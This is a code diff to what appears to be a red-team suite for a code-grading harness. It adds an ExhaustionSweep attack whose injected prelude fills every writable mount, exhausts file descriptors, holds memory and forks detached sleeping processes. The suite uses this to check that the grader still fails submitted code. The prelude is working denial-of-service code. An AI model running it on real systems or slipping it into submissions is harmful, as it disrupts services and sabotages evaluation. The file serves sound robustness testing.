@@ -32,7 +32,14 @@ from gym._grading import Export
 from gym._redteam._core import Attack, Context, Finding, Names, register
 from gym._sandbox import Change
 
-__all__ = ["CODE_ENVS", "ChannelSweep", "LiarSweep", "SignalSweep", "liar_export"]
+__all__ = [
+    "CODE_ENVS",
+    "ChannelSweep",
+    "ExhaustionSweep",
+    "LiarSweep",
+    "SignalSweep",
+    "liar_export",
+]
 
 CODE_ENVS = ("boxgym/PyFunc-v0", "boxgym/HumanEval-v0", "boxgym/MBPP-v0", "boxgym/PyRepo-v0")
 CONCURRENCY = 4
@@ -222,6 +229,97 @@ class ChannelSweep(LiarSweep):
         )
 
 
+@dataclass
+class ExhaustionSweep(LiarSweep):
+    """The liar, after taking every resource it can reach in the grading container.
+
+    At import, before the liar's answers, the code under test fills every writable
+    folder of every read-write mount it sees (the mount table, not a list of paths) until
+    the disk says no, takes up to 2,000 names in each, holds 192 MiB, opens descriptors
+    until the kernel refuses, forks sleeping processes in sessions of their own until the
+    kernel refuses and starts 50 sleeping threads. Every worker generation does it again.
+    What the judge needs (processes, memory, a place for its report, its own home) must
+    not be among what it took: every task must still end ``fail``.
+
+    A long row (``gym redteam --long``): every grading fills the disk and forks to the
+    limit, about 1.5 s a task at 4 at once, 34 minutes over the four code environments.
+    """
+
+    name: str = "grading.exhaustion_sweep"
+    expected: str = "fail on every task (what the code takes is never the judge's: no infra_error)"
+    long: bool = True
+
+    def prelude(self, ctx: Context) -> str:
+        names = Names(random.Random(ctx.rng.getrandbits(64)))
+        take, held = names.ident(), names.ident()
+        return f"""
+import os, threading, time
+def {take}():
+    mounts = []
+    try:
+        for line in open("/proc/self/mounts"):
+            parts = line.split()
+            writable = len(parts) > 3 and "rw" in parts[3].split(",")
+            if writable and not parts[1].startswith(("/proc", "/sys")):
+                mounts.append(parts[1])
+    except OSError:
+        pass
+    block = b"\\x01" * (1 << 20)
+    for top in mounts:
+        for root, dirs, files in os.walk(top):
+            if not os.access(root, os.W_OK | os.X_OK):
+                continue
+            new = os.O_WRONLY | os.O_CREAT | os.O_EXCL
+            try:
+                fd = os.open(os.path.join(root, "f" + os.urandom(6).hex()), new, 0o600)
+            except OSError:
+                continue
+            try:
+                while True:
+                    os.write(fd, block)
+            except OSError:
+                pass
+            os.close(fd)
+            for _ in range(2000):
+                try:
+                    os.close(os.open(os.path.join(root, "n" + os.urandom(6).hex()), new, 0o600))
+                except OSError:
+                    break
+    kept = []
+    try:
+        kept.append(b"\\x02" * (192 << 20))
+    except MemoryError:
+        pass
+    fds = []
+    try:
+        while len(fds) < 100000:
+            fds.append(os.open("/dev/null", os.O_RDONLY))
+    except OSError:
+        pass
+    for fd in fds[: len(fds) // 2]:
+        os.close(fd)
+    for _ in range(200):
+        try:
+            pid = os.fork()
+        except OSError:
+            break
+        if pid == 0:
+            try:
+                os.setsid()
+            except OSError:
+                pass
+            while True:
+                time.sleep(1)
+    for _ in range(50):
+        try:
+            threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
+        except RuntimeError:
+            break
+    return kept
+{held} = {take}()
+"""
+
+
 def _env(env_id: str, kwargs: dict[str, Any]) -> ContainerEnv[Any]:
     return env_of(gymnasium.make(env_id, **kwargs))
 
@@ -253,6 +351,10 @@ register(
     ),
     *(
         ChannelSweep(name=f"grading.channel_sweep[{env.split('/')[-1]}]", envs=(env,))
+        for env in CODE_ENVS
+    ),
+    *(
+        ExhaustionSweep(name=f"grading.exhaustion_sweep[{env.split('/')[-1]}]", envs=(env,))
         for env in CODE_ENVS
     ),
 )
